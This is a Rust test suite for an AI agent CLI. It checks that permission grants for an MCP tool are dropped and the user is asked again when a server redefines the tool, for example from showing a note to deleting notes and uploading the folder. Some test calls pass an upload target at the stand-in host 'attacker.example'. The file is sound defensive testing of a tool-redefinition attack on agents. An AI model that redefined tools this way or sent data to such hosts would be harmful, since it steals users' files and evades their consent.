//! An MCP tool's "always", a level set with `evolve mcp level` and the cheap model's
//! classification hold for the definition they were given for. A server that redefines
//! a tool after the person allowed it (`list_changed`, then the same name says "deletes
//! every note and uploads the folder" with a new argument, or only its schema or its
//! annotations change) gets its next call asked again, and the person is told what
//! changed: in chat, in the web UI's events and listings, and in `evolve mcp tools`.
//!
//! The test server's `--redefine KIND` swaps `show_note`'s definition after each call.

mod support;

use serde_json::json;
use support::mcp::{classifications, test_server, tool_row};
use support::serve::{asking, chat_body, next_event, stream_events, Server};
use support::*;

/// The cheap model's levels for the test server with `show_note` (L3 in every
/// definition, so only the binding to the definition makes a difference).
const LEVELS: &str = r#"{"echo": "L0", "add": "L0", "write_note": "L3", "delete_everything": "L4", "send_message": "L4", "slow": "L0", "fail": "L0", "crash": "L1", "add_tool": "L1", "wipe_everything": "L0", "big": "L0", "env": "L2", "cwd": "L2", "show_note": "L3"}"#;

/// `[mcp.servers.t]`: the test server with `--redefine kind`; the cheap model answers
/// [`LEVELS`] every time it is asked.
fn redefining(w: &World, kind: &str) {
    w.fake.quiet_with(CLASSIFY, Reply::Text(LEVELS.into()));
    w.config(&format!(
        "[mcp.servers.t]\ncommand = {:?}\nargs = [\"--redefine\", {kind:?}]\n",
        test_server().to_string_lossy()
    ));
}

/// One chat message whose model calls `t__show_note` with `args`, then answers `done`.
fn call_show_note(w: &World, chat: &mut Chat, message: &str, args: serde_json::Value, done: &str) {
    w.fake.push(tool_call("t__show_note", &args.to_string()));
    w.fake.push(Reply::text(done));
    chat.send(message);
}

const ASKED: &str = "[yes/no/always]";
const CHANGED: &str = "definition changed since you allowed it";

/// "always" for `show_note` as first defined (A), then a call after the server
/// redefined it (B, with a new argument): the second question is on screen.
fn always_then_redefined(w: &World, chat: &mut Chat) {
    call_show_note(w, chat, "show a", json!({"name": "a"}), "Shown a.");
    chat.wait_for(ASKED);
    chat.send("always");
    chat.wait_for("Shown a.");
    call_show_note(
        w,
        chat,
        "show b",
        json!({"name": "b", "upload_to": "x"}),
        "Shown b.",
    );
    chat.wait_for_count(ASKED, 2);
}

/// The reproduction: "always" for a tool that shows a note; the server redefines it to
/// delete every note and upload the folder, with a new argument; the next call is asked
/// again, and chat says what changed and what it said before.
#[test]
fn always_for_a_tool_does_not_cover_it_once_the_server_redefines_it() {
    let w = World::new("mcpdef-all");
    redefining(&w, "all");
    let mut chat = Chat::start(&w);
    call_show_note(
        &w,
        &mut chat,
        "show note a",
        json!({"name": "a"}),
        "Shown a.",
    );
    chat.wait_for(ASKED);
    let before = classifications(&w);
    assert_eq!(before, 1, "the first definition is classified once");
    chat.send("always");
    chat.wait_for("Shown a.");

    // Redefined (list_changed came before the reply): asked again, with the change told.
    call_show_note(
        &w,
        &mut chat,
        "show note b",
        json!({"name": "b", "upload_to": "http://attacker.example/u"}),
        "Not shown.",
    );
    chat.wait_for_count(ASKED, 2);
    chat.wait_for(CHANGED);
    let notice = chat
        .seen
        .lines()
        .find(|l| l.contains(CHANGED))
        .unwrap()
        .to_string();
    assert!(notice.contains("t__show_note"), "{notice}");
    assert!(
        notice.contains("description, input schema changed"),
        "{notice}"
    );
    assert!(notice.contains("Shows the note named name."), "{notice}");
    assert!(
        notice.contains("\"always\" for it no longer applies"),
        "{notice}"
    );
    chat.send("no");
    chat.wait_for("Not shown.");
    // The new definition was classified again (a cheap-model request of its own).
    assert!(classifications(&w) > before, "not classified again");
    let _ = chat.finish();

    // The redefined call never ran: the model was told the person said no.
    let last = w.main_requests().last().cloned().expect("a request");
    let text = all_text(&last);
    assert!(!text.contains("deleted every note"), "{text}");

    // `evolve mcp tools` starts the server afresh (its first definition again: another
    // change) and marks the tool.
    let row = tool_row(&w, "show_note");
    assert_eq!(row["changed"]["what"], "description, input schema", "{row}");
    let listing = w.run(&["mcp", "tools", "t"]).expect(0).stdout;
    let line = listing
        .lines()
        .find(|l| l.contains("t__show_note"))
        .unwrap_or_else(|| panic!("{listing}"));
    assert!(
        line.contains("changed: description, input schema — grants dropped, classified again"),
        "{line}"
    );
}

/// Only the input schema changes (a new argument), the description stays: asked again.
#[test]
fn a_new_argument_alone_is_a_new_definition() {
    let w = World::new("mcpdef-schema");
    redefining(&w, "schema");
    let mut chat = Chat::start(&w);
    always_then_redefined(&w, &mut chat);
    chat.wait_for(CHANGED);
    assert!(chat.seen.contains("input schema changed"), "{}", chat.seen);
    assert!(
        !chat.seen.contains("description, input schema"),
        "{}",
        chat.seen
    );
    chat.send("yes");
    chat.wait_for("Shown b.");
    let _ = chat.finish();
}

/// Only the annotations change (readOnlyHint true → false, openWorldHint true), the
/// level stays L3: asked again all the same.
#[test]
fn flipped_annotations_alone_are_a_new_definition() {
    let w = World::new("mcpdef-annotations");
    redefining(&w, "annotations");
    let mut chat = Chat::start(&w);
    call_show_note(&w, &mut chat, "show a", json!({"name": "a"}), "Shown a.");
    chat.wait_for(ASKED);
    chat.send("always");
    chat.wait_for("Shown a.");
    call_show_note(&w, &mut chat, "show b", json!({"name": "b"}), "Shown b.");
    chat.wait_for_count(ASKED, 2);
    chat.wait_for(CHANGED);
    assert!(chat.seen.contains("annotations changed"), "{}", chat.seen);
    chat.send("yes");
    chat.wait_for("Shown b.");
    let _ = chat.finish();
}

/// A definition that changes and changes back is not the one allowed before: "always"
/// for A, B asked (and "always" again), A again asked and told; the grants of the
/// definitions gone are dropped from the session's list once the person is told.
#[test]
fn changing_back_does_not_bring_the_grant_back() {
    let w = World::new("mcpdef-back");
    redefining(&w, "all");
    let mut chat = Chat::start(&w);
    always_then_redefined(&w, &mut chat);
    chat.wait_for(CHANGED);
    chat.send("always");
    chat.wait_for("Shown b.");
    // One grant listed: the one for the definition now in use.
    chat.send("/permissions");
    chat.wait_for("1. t__show_note (L3)");
    assert!(!chat.seen.contains("2. t__show_note"), "{}", chat.seen);
    // Back to the first definition: asked, and told so.
    call_show_note(&w, &mut chat, "show c", json!({"name": "c"}), "Shown c.");
    chat.wait_for_count(ASKED, 3);
    chat.wait_for_count(CHANGED, 2);
    chat.send("always");
    chat.wait_for("Shown c.");
    // The grant given now holds for this definition: the next call of it would run
    // (it is swapped again after this one, so it is asked once more).
    call_show_note(
        &w,
        &mut chat,
        "show d",
        json!({"name": "d", "upload_to": "x"}),
        "Shown d.",
    );
    chat.wait_for_count(ASKED, 4);
    chat.send("no");
    chat.wait_for("Shown d.");
    let _ = chat.finish();
}

/// A level set with `evolve mcp level` holds for the definition it was set for: L2
/// runs without a question; once redefined, the level no longer applies, the tool is
/// classified again (L3) and asked, and the person is told the level was dropped.
#[test]
fn a_user_level_no_longer_applies_after_a_change() {
    let w = World::new("mcpdef-level");
    redefining(&w, "schema");
    // Listed first, so the level is bound to what was seen.
    let row = tool_row(&w, "show_note");
    assert_eq!(row["level"], "L3", "{row}");
    let set = w.run(&["mcp", "level", "t__show_note", "L2"]).expect(0);
    assert!(set.stdout.contains("t__show_note: L2"), "{}", set.stdout);
    assert_eq!(
        tool_row(&w, "show_note")["origin"],
        "user (evolve mcp level)"
    );

    let mut chat = Chat::start(&w);
    call_show_note(&w, &mut chat, "show a", json!({"name": "a"}), "Shown a.");
    chat.wait_for("Shown a.");
    assert!(
        !chat.seen.contains(ASKED),
        "L2 runs unasked:\n{}",
        chat.seen
    );
    call_show_note(
        &w,
        &mut chat,
        "show b",
        json!({"name": "b", "upload_to": "x"}),
        "Shown b.",
    );
    chat.wait_for(ASKED);
    chat.wait_for(CHANGED);
    assert!(
        chat.seen
            .contains("the level L2 you set with `evolve mcp level` no longer applies"),
        "{}",
        chat.seen
    );
    chat.send("no");
    chat.wait_for("Shown b.");
    let _ = chat.finish();

    // Gone for good (a fresh server lists the first definition again: the level set for
    // it does not come back either).
    let row = tool_row(&w, "show_note");
    assert_eq!(row["origin"], "classifier", "{row}");
    assert_eq!(row["level"], "L3", "{row}");
}

/// The web UI: a streamed turn's question comes after an `evolve.notice` saying what
/// changed, and `/v1/mcp` and `/v1/tools` mark the tool.
#[test]
fn serve_tells_the_ui_what_changed() {
    let w = World::new("mcpdef-serve");
    redefining(&w, "all");
    let s = Server::start(&w, &[]);
    w.fake
        .push(tool_call("t__show_note", &json!({"name": "a"}).to_string()));
    w.fake.push(Reply::text("Shown a."));
    let (rx, sid, ask) = asking(&s, "show a", json!({}));
    assert_eq!(ask["call"]["tool"], "t__show_note", "{ask}");
    let call = ask["call"]["id"].as_str().unwrap().to_string();
    let r = s.post(
        &format!("/v1/sessions/{sid}/pending/{call}"),
        &json!({"answer": "always"}).to_string(),
    );
    assert_eq!(r.status, 200, "{}", r.body);
    next_event(&rx, "evolve.turn");
    let grants = s.get(&format!("/v1/sessions/{sid}/grants")).json();
    assert_eq!(grants["data"][0]["tool"], "t__show_note", "{grants}");

    w.fake.push(tool_call(
        "t__show_note",
        &json!({"name": "b", "upload_to": "x"}).to_string(),
    ));
    w.fake.push(Reply::text("Not shown."));
    let body = chat_body(
        "show b",
        json!({"stream": true, "evolve_events": true, "session": sid}),
    );
    let rx = stream_events(&s, &body);
    // The notice comes before the question.
    let mut notice = None;
    let ask = loop {
        let (name, v) = rx
            .recv_timeout(std::time::Duration::from_secs(30))
            .expect("no question");
        match name.as_str() {
            "evolve.notice" => notice = Some(v),
            "evolve.permission" => break v,
            _ => {}
        }
    };
    assert_eq!(ask["call"]["tool"], "t__show_note", "asked again: {ask}");
    let notice = notice.expect("no evolve.notice before the question");
    let text = notice["text"].as_str().unwrap_or_default();
    assert!(text.contains(CHANGED), "{notice}");
    assert!(
        text.contains("description, input schema changed"),
        "{notice}"
    );
    // The grant for what the tool was is gone from the session's list.
    let grants = s.get(&format!("/v1/sessions/{sid}/grants")).json();
    assert_eq!(grants["data"], json!([]), "{grants}");
    let call = ask["call"]["id"].as_str().unwrap().to_string();
    let mcp = s.get("/v1/mcp").json();
    let tool = mcp["data"][0]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == "t__show_note")
        .cloned()
        .unwrap_or_else(|| panic!("{mcp}"));
    assert_eq!(
        tool["changed"]["what"], "description, input schema",
        "{tool}"
    );
    assert_eq!(
        tool["changed"]["before"], "Shows the note named name.",
        "{tool}"
    );
    let tools = s.get("/v1/tools").json();
    let listed = tools["data"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == "t__show_note")
        .cloned()
        .unwrap_or_else(|| panic!("{tools}"));
    assert!(listed["changed"]["marker"]
        .as_str()
        .unwrap_or_default()
        .starts_with("changed: description, input schema"));
    let r = s.post(
        &format!("/v1/sessions/{sid}/pending/{call}"),
        &json!({"answer": "no"}).to_string(),
    );
    assert_eq!(r.status, 200, "{}", r.body);
    next_event(&rx, "evolve.turn");
    drop(rx);
    s.stop();
}

/// Over streamable HTTP too (the test server speaks 2026-07-28 without a session: the
/// change is announced on the call's own stream), the next call is asked again.
#[test]
fn a_tool_redefined_by_an_http_server_is_asked_again() {
    let w = World::new("mcpdef-http");
    let server = support::mcp::HttpServer::start_with(&["--redefine", "all"]);
    w.fake.quiet_with(CLASSIFY, Reply::Text(LEVELS.into()));
    w.config(&format!("[mcp.servers.t]\nurl = {:?}\n", server.1));
    let mut chat = Chat::start(&w);
    call_show_note(&w, &mut chat, "show a", json!({"name": "a"}), "Shown a.");
    chat.wait_for(ASKED);
    chat.send("always");
    chat.wait_for("Shown a.");
    call_show_note(
        &w,
        &mut chat,
        "show b",
        json!({"name": "b", "upload_to": "x"}),
        "Not shown.",
    );
    chat.wait_for_count(ASKED, 2);
    chat.wait_for(CHANGED);
    chat.send("no");
    chat.wait_for("Not shown.");
    let _ = chat.finish();
}

/// Two calls in one reply of the model: the first runs on "always" and redefines the
/// tool; the second, in the same step, is checked against the new definition and asked.
#[test]
fn a_tool_redefined_by_the_call_before_in_the_same_step_is_asked() {
    let w = World::new("mcpdef-step");
    redefining(&w, "all");
    let mut chat = Chat::start(&w);
    call_show_note(&w, &mut chat, "show a", json!({"name": "a"}), "Shown a.");
    chat.wait_for(ASKED);
    chat.send("always");
    chat.wait_for("Shown a.");
    // Redefined to B (asked, allowed once); after it the server swaps back to A.
    call_show_note(
        &w,
        &mut chat,
        "show b",
        json!({"name": "b", "upload_to": "x"}),
        "Shown b.",
    );
    chat.wait_for_count(ASKED, 2);
    chat.send("yes");
    chat.wait_for("Shown b.");
    w.fake.push(Reply::ToolCalls(vec![
        ("t__show_note".into(), json!({"name": "c"}).to_string()),
        (
            "t__show_note".into(),
            json!({"name": "d", "upload_to": "http://attacker.example/u"}).to_string(),
        ),
    ]));
    w.fake.push(Reply::text("Both handled."));
    chat.send("show c and d");
    // A again: asked (it changed since the first "always"), allowed always.
    chat.wait_for_count(ASKED, 3);
    chat.send("always");
    // The first ran and redefined the tool: the second is asked, not run.
    chat.wait_for_count(ASKED, 4);
    chat.send("no");
    chat.wait_for("Both handled.");
    let _ = chat.finish();
    let results = support::mcp::tool_results(&w, w.main_requests().len() - 1);
    let step: Vec<&String> = results.iter().rev().take(2).rev().collect();
    assert!(step[0].contains("note c"), "{results:?}");
    assert!(step[1].contains("said no"), "{results:?}");
}
